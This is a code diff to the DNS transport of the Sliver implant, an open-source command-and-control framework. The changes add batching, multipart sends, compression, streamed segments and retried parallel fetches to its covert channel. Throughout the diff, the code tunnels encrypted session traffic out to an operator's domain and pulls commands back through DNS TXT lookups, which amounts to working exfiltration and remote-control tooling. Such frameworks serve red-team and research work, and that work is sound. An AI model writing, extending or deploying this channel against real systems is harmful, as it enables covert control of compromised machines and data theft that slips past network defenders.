@@ -22,15 +22,16 @@ package transports
 
 import (
 	"bytes"
+	"compress/flate"
 	"crypto/rsa"
 	"crypto/sha256"
 	"crypto/x509"
-	"encoding/base32"
 	"encoding/base64"
 	"encoding/binary"
 	"encoding/pem"
 	"errors"
 	"fmt"
+	"io/ioutil"
 	"math"
 
 	// {{if .Debug}}
@@ -47,6 +48,7 @@ import (
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 
 	consts "github.com/bishopfox/sliver/sliver/constants"
+	"github.com/bishopfox/sliver/sliver/encoders"
 
 	"github.com/golang/protobuf/proto"
 )
@@ -64,16 +66,34 @@ const (
 	sessionInitMsg     = "si"
 	sessionPollingMsg  = "sp"
 	sessionEnvelopeMsg = "se"
+	sessionBatchMsg    = "sb"
+	streamSegmentMsg   = "ss"
+	sessionPartMsg     = "sm"
 
 	nonceStdSize = 6
 
 	blockIDSize = 6
 
 	maxBlocksPerTXT = 200 // How many blocks to put into a TXT resp at a time
+
+	// Ranges of a block are fetched in parallel, at most blockFetchWindow at a
+	// time, and a range that fails is retried blockFetchRetries times
+	blockFetchWindow  = 8
+	blockFetchRetries = 3
+
+	// Envelopes smaller than this are sent together if the server negotiated
+	// batching, a batch is at most batchMaxSize bytes
+	batchEnvelopeSize = 4 * 1024
+	batchMaxSize      = 32 * 1024
+	maxBatchEnvelopes = 64
+
+	// Envelopes larger than this are sent in parts if the server negotiated
+	// multipart, so the server never reassembles more than one part at a time
+	envelopePartSize = 64 * 1024
 )
 
 var (
-	dnsCharSet = []rune("abcdefghijklmnopqrstuvwxyz0123456789-_")
+	dnsCharSet = []rune(encoders.DNSIDCharSet)
 
 	pollInterval = 1 * time.Second
 
@@ -124,6 +144,7 @@ func dnsLookup(domain string) (string, error) {
 	// {{if .Debug}}
 	log.Printf("[dns] lookup -> %s", domain)
 	// {{end}}
+	sessionLimiter.Wait(len(domain)) // Every query counts against the cap, so the cap also limits the query rate
 	txts, err := net.LookupTXT(domain)
 	if err != nil || len(txts) == 0 {
 		// {{if .Debug}}
@@ -131,11 +152,13 @@ func dnsLookup(domain string) (string, error) {
 		// {{end}}
 		return "", err
 	}
-	return strings.Join(txts, ""), nil
+	txt := strings.Join(txts, "")
+	sessionLimiter.Wait(len(txt))
+	return txt, nil
 }
 
-// Send raw bytes of an arbitrary length to the server
-func dnsSend(parentDomain string, msgType string, sessionID string, data []byte) (string, error) {
+// Send raw bytes of an arbitrary length to the server, each query also waits on the transfer limiter
+func dnsSend(parentDomain string, msgType string, sessionID string, data []byte, transfer *limiter) (string, error) {
 
 	encoded := dnsEncodeToString(data)
 	size := int(math.Ceil(float64(len(encoded)) / float64(dnsSendDomainStep)))
@@ -194,14 +217,17 @@ func dnsSend(parentDomain string, msgType string, sessionID string, data []byte)
 		subdomain := strings.Join(subdata, ".")
 		seq := dnsEncodeToString(dnsDomainSeq(index))
 		domain := subdomain + fmt.Sprintf(".%s.%s.%s.%s.%s", seq, nonce, sessionID, msgType, parentDomain)
+		transfer.Wait(len(domain))
 		_, err := dnsLookup(domain)
 		if err != nil {
 			return "", err
 		}
 
 	}
-	// A domain with "_" before the msgType means we're doing sending data
-	domain := fmt.Sprintf("%s.%s.%s.%s", nonce, sessionID, "_"+msgType, parentDomain)
+	// A domain with "_" before the msgType means we're doing sending data, it
+	// declares how many segments were sent so the server can tell if any are missing
+	total := dnsEncodeToString(dnsDomainSeq(size))
+	domain := fmt.Sprintf("%s.%s.%s.%s.%s", total, nonce, sessionID, "_"+msgType, parentDomain)
 	txt, err := dnsLookup(domain)
 	if err != nil {
 		return "", err
@@ -218,42 +244,44 @@ func dnsDomainSeq(seq int) []byte {
 
 // --------------------------- DNS SESSION START ---------------------------
 
-func dnsStartSession(parentDomain string) (string, AESKey, error) {
+func dnsStartSession(parentDomain string) (*pb.SessionInitResp, AESKey, error) {
 	sessionKey := RandomAESKey()
 
 	pubKey := dnsGetServerPublicKey(parentDomain)
 	if pubKey == nil {
-		return "", AESKey{}, errors.New("pubkey required for new DNS session")
+		return nil, AESKey{}, errors.New("pubkey required for new DNS session")
 	}
 	dnsSessionInit := &pb.DNSSessionInit{
-		Key: sessionKey[:],
+		Key:         sessionKey[:],
+		Compression: supportedCompression,
+		Batching:    true,
+		Multipart:   true,
 	}
 	data, _ := proto.Marshal(dnsSessionInit)
 	encryptedData, err := RSAEncrypt(data, pubKey)
 	if err != nil {
-		return "", AESKey{}, err
+		return nil, AESKey{}, err
 	}
 
-	encryptedSessionID, err := dnsSend(parentDomain, sessionInitMsg, "_", encryptedData)
+	encryptedSessionID, err := dnsSend(parentDomain, sessionInitMsg, "_", encryptedData, newLimiter(0))
 	if err != nil {
-		return "", AESKey{}, errors.New("Failed to start new DNS session (sessionInitMsg send failed)")
+		return nil, AESKey{}, errors.New("Failed to start new DNS session (sessionInitMsg send failed)")
 	}
 	// {{if .Debug}}
 	log.Printf("Encrypted session id = %s", encryptedSessionID)
 	// {{end}}
-	encryptedSessionIDData, err := base64.RawStdEncoding.DecodeString(encryptedSessionID)
+	encryptedSessionIDData, err := encoders.DNSBase64.DecodeString(encryptedSessionID)
 	if err != nil || isReplayAttack(encryptedSessionIDData) {
 		// {{if .Debug}}
 		log.Printf("Session ID decode error %v", err)
 		// {{end}}
-		return "", AESKey{}, errors.New("Failed to decode session id")
+		return nil, AESKey{}, errors.New("Failed to decode session id")
 	}
-	sessionID, err := GCMDecrypt(sessionKey, encryptedSessionIDData)
+	initResp, err := GCMDecrypt(sessionKey, encryptedSessionIDData)
 	if err != nil {
-		return "", AESKey{}, errors.New("Failed to decrypt session id")
+		return nil, AESKey{}, errors.New("Failed to decrypt session id")
 	}
-
-	return string(sessionID), sessionKey, nil
+	return parseSessionInitResp(initResp), sessionKey, nil
 }
 
 // Get the public key of the server
@@ -302,7 +330,7 @@ func LookupDomainKey(selector string, parentDomain string) ([]byte, error) {
 		// {{end}}
 		return nil, err
 	}
-	certPEM, err := base64.RawStdEncoding.DecodeString(txt)
+	certPEM, err := encoders.DNSBase64.DecodeString(txt)
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("Error decoding certificate %v", err)
@@ -314,9 +342,54 @@ func LookupDomainKey(selector string, parentDomain string) ([]byte, error) {
 
 // --------------------------- DNS SESSION SEND ---------------------------
 
-func dnsSessionSendEnvelope(parentDomain string, sessionID string, sessionKey AESKey, envelope *pb.Envelope) {
+// drainEnvelopes - Envelopes already waiting behind the first one are sent along with it
+func drainEnvelopes(send chan *pb.Envelope, envelopes []*pb.Envelope) []*pb.Envelope {
+	for len(envelopes) < maxBatchEnvelopes {
+		select {
+		case envelope, ok := <-send:
+			if !ok {
+				return envelopes
+			}
+			envelopes = append(envelopes, envelope)
+		default:
+			return envelopes
+		}
+	}
+	return envelopes
+}
 
-	envelopeData, err := proto.Marshal(envelope)
+// Small envelopes without a bandwidth cap are sent in batches, large ones in parts
+// and the rest one by one
+func dnsSessionSendEnvelopes(parentDomain string, sessionID string, sessionKey AESKey, compression string, multipart bool, envelopes []*pb.Envelope) {
+	batch := &pb.EnvelopeBatch{}
+	batchSize := 0
+	for _, envelope := range envelopes {
+		compressEnvelope(compression, envelope)
+		size := proto.Size(envelope)
+		if multipart && envelopePartSize < size {
+			dnsSessionSendParts(parentDomain, sessionID, sessionKey, envelope)
+			continue
+		}
+		if 1 == len(envelopes) || envelope.BandwidthLimit != 0 || batchEnvelopeSize <= size {
+			dnsSessionSend(parentDomain, sessionID, sessionKey, sessionEnvelopeMsg, envelope, envelope.BandwidthLimit)
+			continue
+		}
+		if batchMaxSize < batchSize+size {
+			dnsSessionSend(parentDomain, sessionID, sessionKey, sessionBatchMsg, batch, 0)
+			batch = &pb.EnvelopeBatch{}
+			batchSize = 0
+		}
+		batch.Envelopes = append(batch.Envelopes, envelope)
+		batchSize += size
+	}
+	if 0 < len(batch.Envelopes) {
+		dnsSessionSend(parentDomain, sessionID, sessionKey, sessionBatchMsg, batch, 0)
+	}
+}
+
+// Send an envelope or a batch of them
+func dnsSessionSend(parentDomain string, sessionID string, sessionKey AESKey, msgType string, msg proto.Message, bandwidthLimit int64) {
+	data, err := proto.Marshal(msg)
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("Failed to encode envelope %v", err)
@@ -324,7 +397,7 @@ func dnsSessionSendEnvelope(parentDomain string, sessionID string, sessionKey AE
 		return
 	}
 
-	encryptedEnvelope, err := GCMEncrypt(sessionKey, envelopeData)
+	encryptedData, err := GCMEncrypt(sessionKey, data)
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("Failed to encrypt session envelope %v", err)
@@ -332,7 +405,7 @@ func dnsSessionSendEnvelope(parentDomain string, sessionID string, sessionKey AE
 		return
 	}
 
-	_, err = dnsSend(parentDomain, sessionEnvelopeMsg, sessionID, encryptedEnvelope)
+	_, err = dnsSend(parentDomain, msgType, sessionID, encryptedData, newLimiter(bandwidthLimit))
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("Failed to send session envelope %v", err)
@@ -340,6 +413,52 @@ func dnsSessionSendEnvelope(parentDomain string, sessionID string, sessionKey AE
 	}
 }
 
+// Send an envelope as parts of at most envelopePartSize bytes, the server
+// acknowledges each part before the next one is sent
+func dnsSessionSendParts(parentDomain string, sessionID string, sessionKey AESKey, envelope *pb.Envelope) {
+	data, err := proto.Marshal(envelope)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("Failed to encode envelope %v", err)
+		// {{end}}
+		return
+	}
+	partID := dnsBlockHeaderID()
+	parts := (len(data) + envelopePartSize - 1) / envelopePartSize
+	transfer := newLimiter(envelope.BandwidthLimit)
+	for index := 0; index < parts; index++ {
+		start := index * envelopePartSize
+		stop := start + envelopePartSize
+		if len(data) < stop {
+			stop = len(data)
+		}
+		partData, _ := proto.Marshal(&pb.DNSEnvelopePart{
+			ID:    partID,
+			Index: uint32(index),
+			Parts: uint32(parts),
+			Size:  uint64(len(data)),
+			Data:  data[start:stop],
+		})
+		encryptedData, err := GCMEncrypt(sessionKey, partData)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("Failed to encrypt envelope part %v", err)
+			// {{end}}
+			return
+		}
+		// {{if .Debug}}
+		log.Printf("Sending envelope %s part %d of %d", partID, index+1, parts)
+		// {{end}}
+		resp, err := dnsSend(parentDomain, sessionPartMsg, sessionID, encryptedData, transfer)
+		if err != nil || resp != "0" {
+			// {{if .Debug}}
+			log.Printf("Failed to send envelope part %d (%#v) %v", index, resp, err)
+			// {{end}}
+			return
+		}
+	}
+}
+
 // --------------------------- DNS SESSION RECV ---------------------------
 
 func dnsSessionPoll(parentDomain string, sessionID string, sessionKey AESKey, ctrl chan bool, recv chan *pb.Envelope) {
@@ -363,7 +482,7 @@ func dnsSessionPoll(parentDomain string, sessionID string, sessionKey AESKey, ct
 			log.Printf("Poll returned new block(s): %#v", txt)
 			// {{end}}
 
-			rawTxt, _ := base64.RawStdEncoding.DecodeString(txt)
+			rawTxt, _ := encoders.DNSBase64.DecodeString(txt)
 			if isReplayAttack(rawTxt) {
 				break
 			}
@@ -385,7 +504,18 @@ func dnsSessionPoll(parentDomain string, sessionID string, sessionKey AESKey, ct
 
 			for _, blockPtr := range dnsPoll.Blocks {
 				go func(blockPtr *pb.DNSBlockHeader) {
-					envelope := getSessionEnvelope(parentDomain, sessionKey, blockPtr)
+					if blockPtr.Batch {
+						for _, envelope := range getSessionBatch(parentDomain, sessionKey, blockPtr) {
+							recv <- envelope
+						}
+						return
+					}
+					var envelope *pb.Envelope
+					if 0 < blockPtr.Segments {
+						envelope = getSessionStream(parentDomain, sessionKey, blockPtr)
+					} else {
+						envelope = getSessionEnvelope(parentDomain, sessionKey, blockPtr)
+					}
 					if envelope != nil {
 						recv <- envelope
 					}
@@ -413,6 +543,70 @@ func getSessionEnvelope(parentDomain string, sessionKey AESKey, blockPtr *pb.DNS
 	}
 	envelope := &pb.Envelope{}
 	err = proto.Unmarshal(envelopeData, envelope)
+	if err == nil {
+		err = decompressEnvelope(envelope)
+	}
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message %v", err)
+		// {{end}}
+		return nil
+	}
+	return envelope
+}
+
+// Small envelopes are batched into a single block
+func getSessionBatch(parentDomain string, sessionKey AESKey, blockPtr *pb.DNSBlockHeader) []*pb.Envelope {
+	blockData, err := getBlock(parentDomain, blockPtr.ID, fmt.Sprintf("%d", blockPtr.Size))
+	if err != nil || isReplayAttack(blockData) {
+		// {{if .Debug}}
+		log.Printf("Failed to fetch block with id = %s", blockPtr.ID)
+		// {{end}}
+		return nil
+	}
+	batchData, err := GCMDecrypt(sessionKey, blockData)
+	if err != nil {
+		return nil
+	}
+	batch := &pb.EnvelopeBatch{}
+	err = proto.Unmarshal(batchData, batch)
+	if err != nil {
+		return nil
+	}
+	envelopes := []*pb.Envelope{}
+	for _, envelope := range batch.Envelopes {
+		if decompressEnvelope(envelope) == nil {
+			envelopes = append(envelopes, envelope)
+		}
+	}
+	return envelopes
+}
+
+// The server streams large envelopes, segments are fetched one after the other
+// and each is only encoded by the server once we ask for it
+func getSessionStream(parentDomain string, sessionKey AESKey, streamPtr *pb.DNSBlockHeader) *pb.Envelope {
+	envelopeData := []byte{}
+	for index := uint32(0); index < streamPtr.Segments; index++ {
+		segment, err := getStreamSegment(parentDomain, sessionKey, streamPtr.ID, index)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("Failed to fetch segment %d of stream %s (%v)", index, streamPtr.ID, err)
+			// {{end}}
+			break
+		}
+		envelopeData = append(envelopeData, segment...)
+	}
+
+	// Asking for the segment past the end closes the stream, even if we gave up
+	nonce := dnsNonce(nonceStdSize)
+	domain := fmt.Sprintf("_%s.%d.%s.%s.%s", nonce, streamPtr.Segments, streamPtr.ID, streamSegmentMsg, parentDomain)
+	dnsLookup(domain)
+
+	envelope := &pb.Envelope{}
+	err := proto.Unmarshal(envelopeData, envelope)
+	if err == nil {
+		err = decompressEnvelope(envelope)
+	}
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("error decoding message %v", err)
@@ -422,6 +616,41 @@ func getSessionEnvelope(parentDomain string, sessionKey AESKey, blockPtr *pb.DNS
 	return envelope
 }
 
+// Fetch the header of a segment's blocks, then the blocks themselves
+func getStreamSegment(parentDomain string, sessionKey AESKey, streamID string, index uint32) ([]byte, error) {
+	nonce := dnsNonce(nonceStdSize)
+	domain := fmt.Sprintf("_%s.%d.%s.%s.%s", nonce, index, streamID, streamSegmentMsg, parentDomain)
+	txt, err := dnsLookup(domain)
+	if err != nil {
+		return nil, err
+	}
+	rawTxt, err := encoders.DNSBase64.DecodeString(txt)
+	if err != nil || isReplayAttack(rawTxt) {
+		return nil, errors.New("Invalid segment header")
+	}
+	headerData, err := GCMDecrypt(sessionKey, rawTxt)
+	if err != nil {
+		return nil, err
+	}
+	header := &pb.DNSBlockHeader{}
+	err = proto.Unmarshal(headerData, header)
+	if err != nil {
+		return nil, err
+	}
+
+	blockData, err := getBlock(parentDomain, header.ID, fmt.Sprintf("%d", header.Size))
+	if err != nil || isReplayAttack(blockData) {
+		return nil, errors.New("Failed to fetch segment blocks")
+	}
+	compressed, err := GCMDecrypt(sessionKey, blockData)
+	if err != nil {
+		return nil, err
+	}
+	reader := flate.NewReader(bytes.NewReader(compressed))
+	defer reader.Close()
+	return ioutil.ReadAll(reader)
+}
+
 // Perform concurrent DNS requests to fetch all blocks of data
 func getBlock(parentDomain string, blockID string, size string) ([]byte, error) {
 	n, err := strconv.Atoi(size)
@@ -439,15 +668,17 @@ func getBlock(parentDomain string, blockID string, size string) ([]byte, error)
 
 	var wg sync.WaitGroup
 	data := make([]string, txtRecords)
+	window := make(chan struct{}, blockFetchWindow)
 
 	for index := 0; index < txtRecords; index++ {
 		wg.Add(1)
 		start := index * maxBlocksPerTXT
 		stop := start + maxBlocksPerTXT
-		if txtRecords < stop {
-			stop = txtRecords
+		if n < stop {
+			stop = n
 		}
-		go fetchBlockSegments(parentDomain, reasm, index, start, stop, &wg)
+		window <- struct{}{}
+		go fetchBlockSegments(parentDomain, reasm, index, start, stop, window, &wg)
 	}
 
 	done := make(chan bool)
@@ -463,10 +694,16 @@ func getBlock(parentDomain string, blockID string, size string) ([]byte, error)
 
 	msg := []string{}
 	for _, buf := range data {
+		if buf == "" {
+			// {{if .Debug}}
+			log.Printf("Missing block range")
+			// {{end}}
+			return nil, errors.New("Failed to fetch block")
+		}
 		msg = append(msg, buf)
 	}
 
-	msgData, err := base64.RawStdEncoding.DecodeString(strings.Join(msg, ""))
+	msgData, err := encoders.DNSBase64.DecodeString(strings.Join(msg, ""))
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("Failed to decode block")
@@ -486,26 +723,30 @@ func getBlock(parentDomain string, blockID string, size string) ([]byte, error)
 	return msgData, nil
 }
 
-// Fetch a single block
-func fetchBlockSegments(parentDomain string, reasm *BlockReassembler, index int, start int, stop int, wg *sync.WaitGroup) {
+// Fetch a range of blocks, frees its slot in the window when done
+func fetchBlockSegments(parentDomain string, reasm *BlockReassembler, index int, start int, stop int, window chan struct{}, wg *sync.WaitGroup) {
 	defer wg.Done()
-	nonce := dnsNonce(nonceStdSize)
-	domain := fmt.Sprintf("_%s.%d.%d.%s.%s.%s", nonce, start, stop, reasm.ID, blockReqMsg, parentDomain)
-	// {{if .Debug}}
-	log.Printf("[dns] fetch -> %s", domain)
-	// {{end}}
-	txt, err := dnsLookup(domain)
-	if err != nil {
+	defer func() { <-window }()
+	for attempt := 0; attempt < blockFetchRetries; attempt++ {
+		// New nonce for every attempt, so a resolver can't answer from its cache
+		nonce := dnsNonce(nonceStdSize)
+		domain := fmt.Sprintf("_%s.%d.%d.%s.%s.%s", nonce, start, stop, reasm.ID, blockReqMsg, parentDomain)
 		// {{if .Debug}}
-		log.Printf("Failed to fetch blocks %v", err)
+		log.Printf("[dns] fetch -> %s", domain)
 		// {{end}}
+		txt, err := dnsLookup(domain)
+		if err != nil || txt == "" {
+			// {{if .Debug}}
+			log.Printf("Failed to fetch blocks %v", err)
+			// {{end}}
+			continue
+		}
+		reasm.Recv <- &RecvBlock{
+			Index: index,
+			Data:  txt,
+		}
 		return
 	}
-	reasm.Recv <- &RecvBlock{
-		Index: index,
-		Data:  txt,
-	}
-
 }
 
 // --------------------------- HELPERS ---------------------------
@@ -538,36 +779,23 @@ func fingerprintSHA256(block *pem.Block) string {
 
 // --------------------------- ENCODER ---------------------------
 
-var base32Alphabet = "ab1c2d3e4f5g6h7j8k9m0npqrtuvwxyz"
-var sliverBase32 = base32.NewEncoding(base32Alphabet)
-
-// EncodeToString encodes the given byte slice in base32
+// EncodeToString encodes the given byte slice in base32, see encoders.DNSBase32
 func dnsEncodeToString(input []byte) string {
-	encoded := sliverBase32.EncodeToString(input)
+	encoded := encoders.DNSBase32.EncodeToString(input)
 	// {{if .Debug}}
 	log.Printf("[base32] %#v", encoded)
 	// {{end}}
-	return strings.TrimRight(encoded, "=")
+	return encoded
 }
 
-// DecodeString decodes the given base32 encodeed bytes
+// DecodeString decodes the given base32 encoded bytes
 func dnsDecodeString(raw string) ([]byte, error) {
-	pad := 8 - (len(raw) % 8)
-	nb := []byte(raw)
-	if pad != 8 {
-		nb = make([]byte, len(raw)+pad)
-		copy(nb, raw)
-		for index := 0; index < pad; index++ {
-			nb[len(raw)+index] = '='
-		}
-	}
-	return sliverBase32.DecodeString(string(nb))
+	return encoders.DNSBase32.DecodeString(raw)
 }
 
 // SessionIDs are public parameters in this use case
 // so it's only important that they're unique
 func dnsSessionID() string {
-	insecureRand.Seed(time.Now().UnixNano())
 	sessionID := []rune{}
 	for i := 0; i < sessionIDSize; i++ {
 		index := insecureRand.Intn(len(dnsCharSet))